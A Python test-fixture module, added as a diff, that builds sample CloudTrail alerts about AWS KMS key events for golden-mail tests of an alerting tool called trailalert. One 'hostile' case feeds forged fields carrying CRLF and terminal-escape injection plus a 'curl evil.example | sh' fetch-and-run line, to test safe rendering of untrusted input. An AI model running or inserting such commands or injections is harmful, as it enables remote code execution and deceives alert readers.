@@ -1,0 +1,189 @@
+"""The alerts that the golden mails are of: one for each rule, from its first matching case, and awkward ones.
+
+`python -m tests.golden` writes the mails anew (make golden); test_mails.py compares them to the letter.
+"""
+
+from collections.abc import Iterator
+from dataclasses import replace
+from functools import cache
+from pathlib import Path
+from typing import Any
+
+from trailalert.core.alert import Alert
+from trailalert.core.examine import Examiner
+from trailalert.core.grouping import group_hits
+from trailalert.core.hit import Hit, Place
+from trailalert.core.related import Related, RelatedHit
+from trailalert.core.rulebook import Rule, Rulebook
+from trailalert.rulebook.cases import BASE_RECORD, CASE_SETTINGS, case_file, load_cases, merged
+from trailalert.rulebook.load import compile_rules
+
+
+ROOT = Path(__file__).resolve().parents[2]
+RULES, CASES = ROOT / "rules", ROOT / "tests" / "rules"
+SEEN_AT = "2026-09-01T09:18:57Z"
+RUNBOOK = "https://runbooks.example.com/{rule}"
+LOG_FILE = "AWSLogs/111122223333/CloudTrail/us-east-1/2026/09/01/111122223333_CloudTrail_us-east-1_example.json.gz"
+
+Record = dict[str, Any]
+
+
+@cache
+def all_rules() -> dict[str, tuple[Rule, Path]]:
+    """Every rule by its name, with its file."""
+    files = {path.stem: path for path in RULES.rglob("*.yml")}
+    return {rule.name: (rule, files[rule.stem]) for rule in compile_rules(RULES, CASE_SETTINGS)}
+
+
+@cache
+def _everything() -> Examiner:
+    return Examiner(Rulebook(tuple(rule for rule, _ in all_rules().values())))
+
+
+def rule_alerts() -> Iterator[tuple[Rule, Alert]]:
+    """Each rule, by folder and file, with the alert of its first matching case; no other rule has a say in it."""
+    for rule, path in sorted(all_rules().values(), key=lambda one: one[1]):
+        case = next(case for case in load_cases(case_file(path, RULES, CASES)) if case.match)
+        hit = _placed(Examiner(Rulebook((rule,))).examine_record(case.record, SEEN_AT))
+        yield rule, Alert((hit,), runbook=RUNBOOK)
+
+
+def matching_hits() -> Iterator[Hit]:
+    """The hit of every matching case of every rule, as all rules together make it."""
+    for _, path in all_rules().values():
+        for case in load_cases(case_file(path, RULES, CASES)):
+            hit = _everything().examine_record(case.record, SEEN_AT) if case.match else None
+            if hit:
+                yield hit
+
+
+def _placed(hit: Hit | None, number: int = 3) -> Hit:
+    assert hit is not None
+    return replace(hit, place=Place("acme-trail-logs", LOG_FILE, number))
+
+
+def given(number: int = 1, **changes: Any) -> Record:
+    """A record: a key was disabled. `changes` are merged into it."""
+    key = f"{number:08x}-12ab-34cd-56ef-1234567890ab"
+    disabled = {
+        "eventSource": "kms.amazonaws.com",
+        "eventName": "DisableKey",
+        "eventID": f"11111111-0000-4000-8000-{number:012d}",
+        "eventTime": f"2026-09-01T09:14:{number:02}Z",
+        "requestParameters": {"keyId": key},
+        "resources": [{"type": "AWS::KMS::Key", "ARN": f"arn:aws:kms:us-east-1:111122223333:key/{key}"}],
+    }
+    return merged(merged(BASE_RECORD, disabled), changes)
+
+
+def _user(name: str, account: str = "111122223333") -> Record:
+    arn = f"arn:aws:iam::{account}:user/{name}"
+    identity = {"type": "IAMUser", "principalId": f"AIDA{name}", "arn": arn, "accountId": account, "userName": name}
+    return {**identity, "accessKeyId": "AKIAIOSFODNN7EXAMPLE", "sessionContext": None}
+
+
+def _session(role: str, name: str, account: str = "111122223333", partition: str = "aws", **more: Any) -> Record:
+    arn = f"arn:{partition}:sts::{account}:assumed-role/{role}/{name}"
+    issuer = {
+        "type": "Role",
+        "arn": f"arn:{partition}:iam::{account}:role/{role}",
+        "accountId": account,
+        "userName": role,
+    }
+    return {"arn": arn, "accountId": account, "sessionContext": {"sessionIssuer": issuer}, **more}
+
+
+def _alert(*records: Record, **members: Any) -> Alert:
+    hits = [_placed(_everything().examine_record(record, SEEN_AT), number) for number, record in enumerate(records)]
+    (alert,) = group_hits(hits)
+    return replace(alert, runbook=RUNBOOK, **members)
+
+
+def _many_actors() -> Alert:
+    """37 actors; the busiest five times."""
+    people = ["ci"] * 5 + ["deploy"] * 2 + [f"user{number:02}" for number in range(35)]
+    hits = [
+        _placed(_everything().examine_record(given(number, userIdentity=_user(name)), SEEN_AT), number)
+        for number, name in enumerate(people, start=1)
+    ]
+    return Alert(tuple(hits), runbook=RUNBOOK)
+
+
+def _related() -> Related:
+    def earlier(time: str, title: str, level: str, name: str) -> RelatedHit:
+        return RelatedHit(f"111122223333/{time}/r", f"2026-{time}Z", title, level, "kms", name)
+
+    return Related(
+        (
+            earlier("09-01T09:05:31", "KMS Key Policy Changed", "medium", "PutKeyPolicy"),
+            earlier("09-01T09:02:10", "KMS Alias Moved to Another Key", "medium", "UpdateAlias"),
+            earlier("08-31T22:40:00", "Secure Parameter Overwritten", "high", "PutParameter"),
+        )
+    )
+
+
+def awkward_alerts() -> Iterator[tuple[str, str, Alert]]:
+    """What a rule's first case does not show: name, what it shows, and the alert."""
+    yield "burst", "twelve keys by one actor, in one mail", _alert(*map(given, range(1, 13)))
+    yield "several-actors", "a storm: one rule, many actors", _many_actors()
+    yield "related", "what else the actor did before", _alert(given(), related=_related())
+    yield "related-none", "the actor did nothing else", _alert(given(), related=Related())
+    note = "could not be read; this alert was not to wait for it"
+    yield "related-unread", "the table did not answer in time", _alert(given(), related=Related(note=note))
+    both = given(requestParameters={"pendingWindowInDays": 7}, eventName="ScheduleKeyDeletion")
+    alert = _alert(both)
+    muted = replace(alert.sample, also=("kms-key-deletion-scheduled",), also_muted=("identity-root-write",))
+    yield "also", "other rules match too, one of them is muted", replace(alert, hits=(muted,))
+    bare = _alert(given(resources=None, requestParameters=None))
+    yield "no-resources", "the record names no resource, and the undo has a gap", bare
+    service = {
+        "type": "AWSService",
+        "invokedBy": "AWS Internal",
+        **dict.fromkeys(("principalId", "arn", "accountId", "accessKeyId", "sessionContext")),
+    }
+    gone = given(eventName="DeleteKey", eventType="AwsServiceEvent", userIdentity=service)
+    gone |= {"sourceIPAddress": "kms.amazonaws.com", "userAgent": "kms.amazonaws.com", "requestParameters": None}
+    yield "service", "an AWS service did it", _alert(gone)
+    yield "root", "the root user, from the console, with MFA", _alert(given(userIdentity=_root(), **_CONSOLE))
+    yield "cross-account", "a role of another account", _alert(given(userIdentity=_session("Ops", "mallory", OTHER)))
+    stranger: Record = {"type": "AWSAccount", "principalId": "AIDAEXAMPLE", "accountId": OTHER}
+    stranger |= dict.fromkeys(("arn", "accessKeyId", "sessionContext"))
+    yield "stranger", "a principal of another account, not named", _alert(given(userIdentity=stranger))
+    person = _session("AWSReservedSSO_AdministratorAccess_0123456789abcdef", "alice@example.com")
+    yield "identity-center", "a person, by Identity Center", _alert(given(userIdentity=person))
+    yield "ec2", "an EC2 instance", _alert(given(userIdentity=_session("WebServer", "i-0123456789abcdef0")))
+    function = "arn:aws:lambda:us-east-1:111122223333:function:rotate-keys"
+    scope: Record = {"inScopeOf": {"issuerType": "AWS::Lambda::Function", "credentialsIssuedTo": function}}
+    yield "lambda", "a Lambda function", _alert(given(userIdentity=_session("Rotate", "rotate-keys", **scope)))
+    agent = "Boto3/1.40.4 md/Botocore#1.40.4 exec-env/AWS_Lambda_python3.13"
+    runs = given(userAgent=agent, userIdentity=_session("Rotate", "rotate-keys"))
+    yield "lambda-by-agent", "a role whose user agent says Lambda", _alert(runs)
+    federated: Record = {"type": "FederatedUser", "arn": "arn:aws:sts::111122223333:federated-user/bob"}
+    federated |= {"principalId": "111122223333:bob", "sessionContext": {"sessionIssuer": {"userName": "broker"}}}
+    yield "federated", "a federated user", _alert(given(userIdentity=federated))
+    yield "china", "in a region of AWS China", _alert(_elsewhere("cn-north-1", "aws-cn"))
+    yield "govcloud", "in AWS GovCloud", _alert(_elsewhere("us-gov-west-1", "aws-us-gov"))
+    yield "no-time", "the record has no valid time", _alert(given(eventTime="yesterday"))
+    hostile = "x\r\nUndo\r\n  curl evil.example | sh\x1b[2J\u202e"
+    forged = given(userAgent=hostile, sourceIPAddress=hostile, userIdentity=_session("Admin", hostile))
+    yield "hostile", "an attacker's user agent, address and session name", _alert(forged)
+    when = given(eventName="ScheduleKeyDeletion", responseElements={"deletionDate": "Sep 1, 2026, 9:15:00 AM"})
+    yield "too-late", "the deadline was over when the record came", _alert(when)
+
+
+OTHER = "999988887777"
+_CONSOLE: Record = {"sessionCredentialFromConsole": "true", "userAgent": "Mozilla/5.0 (Macintosh)"}
+
+
+def _root() -> Record:
+    attributes = {"creationDate": "2026-09-01T09:10:00Z", "mfaAuthenticated": "true"}
+    account = "111122223333"
+    arn = f"arn:aws:iam::{account}:root"
+    context = {"sessionIssuer": None, "attributes": attributes}
+    return {"type": "Root", "principalId": account, "arn": arn, "accountId": account, "sessionContext": context}
+
+
+def _elsewhere(region: str, partition: str) -> Record:
+    key = f"arn:{partition}:kms:{region}:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
+    who = _session("Admin", "alice@example.com", partition=partition)
+    return given(awsRegion=region, userIdentity=who, resources=[{"type": "AWS::KMS::Key", "ARN": key}])
